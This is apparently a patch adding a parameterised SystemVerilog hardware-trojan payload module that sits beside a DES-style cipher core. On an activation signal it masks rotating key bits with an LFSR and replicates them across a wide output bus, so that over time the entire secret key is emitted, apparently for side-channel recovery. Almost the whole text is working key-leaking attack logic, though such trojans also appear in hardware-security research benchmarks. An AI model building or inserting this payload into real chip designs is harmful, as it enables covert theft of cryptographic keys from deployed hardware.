tsc_lfsr_payload: RTL

Parametrised successor to the DES trojan payload stage. A Fibonacci LFSR masks the key, and the masked bits are spread across a wide replicated output bus. On top of the earlier fixed 8x8 payload it adds these features:
- configurable key, bus, LFSR and replication widths;
- a rotating key pointer, so every key bit is eventually emitted;
- a trigger-armed FSM with optional burst length;
- zero-lock protection;
- an output-valid flag.

It sits beside the cipher core and takes the core's key and data buses.

---
 rtl/tsc_lfsr_payload.sv | 158 +++++++++++++++
 1 files changed

// File: rtl/tsc_lfsr_payload.sv
// tsc_lfsr_payload: trigger-armed payload stage. A Fibonacci LFSR masks a
// rotating window of key bits. Each masked bit is replicated REP times
// across the registered load bus.

// Per-slice payload cell: one masked key bit fanned out to REP load bits.
module tsc_lfsr_slice #(
    parameter int REP = 8
) (
    input  logic           key_bit,
    input  logic           mask_bit,
    output logic [REP-1:0] word
);
    assign word = {REP{key_bit ^ mask_bit}};
endmodule

module tsc_lfsr_payload #(
    parameter int              KEY_W     = 56,
    parameter int              DATA_W    = 64,
    parameter int              LFSR_W    = 20,
    parameter logic [LFSR_W-1:0] TAPS    = 20'h90000,
    parameter logic [LFSR_W-1:0] SEED    = 20'h00001,
    parameter int              REP       = 8,
    parameter int              BURST_LEN = 0
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              Tj_Trig,
    input  logic [KEY_W-1:0]  key,
    input  logic [DATA_W-1:0] data,
    output logic [DATA_W-1:0] load,
    output logic              load_vld,
    output logic              busy
);
    localparam int NSLICE = DATA_W / REP;
    localparam int PTR_W  = (KEY_W > 1) ? $clog2(KEY_W) : 1;
    // One extra bit so ptr + offset never overflows before the wrap subtract.
    localparam int SUM_W  = PTR_W + 1;
    localparam int CNT_W  = (BURST_LEN > 0) ? $clog2(BURST_LEN + 1) : 1;

    typedef enum logic [1:0] {IDLE, RUN, DONE} state_t;

    state_t            state;
    logic [LFSR_W-1:0] lfsr;
    logic [LFSR_W-1:0] lfsr_raw;
    logic [LFSR_W-1:0] lfsr_step;
    logic [LFSR_W-1:0] lfsr_mix;
    logic [LFSR_W-1:0] lfsr_seeded;
    logic [PTR_W-1:0]  ptr;
    logic [SUM_W-1:0]  ptr_sum;
    logic [PTR_W-1:0]  ptr_next;
    logic [CNT_W-1:0]  cnt;
    logic [CNT_W-1:0]  cnt_inc;
    logic [DATA_W-1:0] word;

    // Only the low LFSR_W data bits perturb the seed; the rest are ignored.
    generate
        if (DATA_W > LFSR_W) begin : g_unused
            logic unused_data;
            assign unused_data = ^data[DATA_W-1:LFSR_W];
        end
    endgenerate

    // Next LFSR value; an all-zero state would lock up, so fall back to SEED.
    assign lfsr_raw  = {lfsr[LFSR_W-2:0], ^(lfsr & TAPS)};
    assign lfsr_step = (lfsr_raw == '0) ? SEED : lfsr_raw;

    // Trigger-time seed: data perturbs SEED, again guarding against zero.
    assign lfsr_mix    = SEED ^ data[LFSR_W-1:0];
    assign lfsr_seeded = (lfsr_mix == '0) ? SEED : lfsr_mix;

    // Key pointer advances by one window per word and wraps modulo KEY_W.
    assign ptr_sum  = {1'b0, ptr} + SUM_W'(NSLICE);
    assign ptr_next = (ptr_sum >= SUM_W'(KEY_W)) ? PTR_W'(ptr_sum - SUM_W'(KEY_W))
                                                 : PTR_W'(ptr_sum);

    assign cnt_inc = cnt + CNT_W'(1);

    // Slice g picks key[(ptr+g) mod KEY_W]; valid while NSLICE <= KEY_W.
    generate
        for (genvar g = 0; g < NSLICE; g++) begin : g_slice
            logic [SUM_W-1:0] sum;
            logic [PTR_W-1:0] idx;
            assign sum = {1'b0, ptr} + SUM_W'(g);
            assign idx = (sum >= SUM_W'(KEY_W)) ? PTR_W'(sum - SUM_W'(KEY_W))
                                                : PTR_W'(sum);
            tsc_lfsr_slice #(.REP(REP)) u_slice (
                .key_bit  (key[idx]),
                .mask_bit (lfsr[g]),
                .word     (word[g*REP +: REP])
            );
        end
    endgenerate

    // Control FSM with registered payload, valid and busy outputs.
    always_ff @(posedge clk) begin
        if (rst) begin
            state    <= IDLE;
            lfsr     <= SEED;
            ptr      <= '0;
            cnt      <= '0;
            load     <= '0;
            load_vld <= 1'b0;
            busy     <= 1'b0;
        end else begin
            case (state)
                IDLE: begin
                    load     <= '0;
                    load_vld <= 1'b0;
                    ptr      <= '0;
                    cnt      <= '0;
                    if (Tj_Trig) begin
                        lfsr  <= lfsr_seeded;
                        state <= RUN;
                        busy  <= 1'b1;
                    end else begin
                        lfsr  <= SEED;
                        busy  <= 1'b0;
                    end
                end
                RUN: begin
                    if (Tj_Trig) begin
                        load     <= word;
                        load_vld <= 1'b1;
                        ptr      <= ptr_next;
                        lfsr     <= lfsr_step;
                        cnt      <= cnt_inc;
                        if (BURST_LEN != 0 && cnt_inc == CNT_W'(BURST_LEN))
                            state <= DONE;
                    end else begin
                        state    <= IDLE;
                        busy     <= 1'b0;
                        load     <= '0;
                        load_vld <= 1'b0;
                        lfsr     <= SEED;
                        ptr      <= '0;
                        cnt      <= '0;
                    end
                end
                DONE: begin
                    // LFSR and pointer stay frozen until the trigger drops.
                    load     <= '0;
                    load_vld <= 1'b0;
                    if (!Tj_Trig) begin
                        state <= IDLE;
                        busy  <= 1'b0;
                        lfsr  <= SEED;
                        ptr   <= '0;
                        cnt   <= '0;
                    end
                end
                default: begin
                    state <= IDLE;
                    busy  <= 1'b0;
                end
            endcase
        end
    end
endmodule
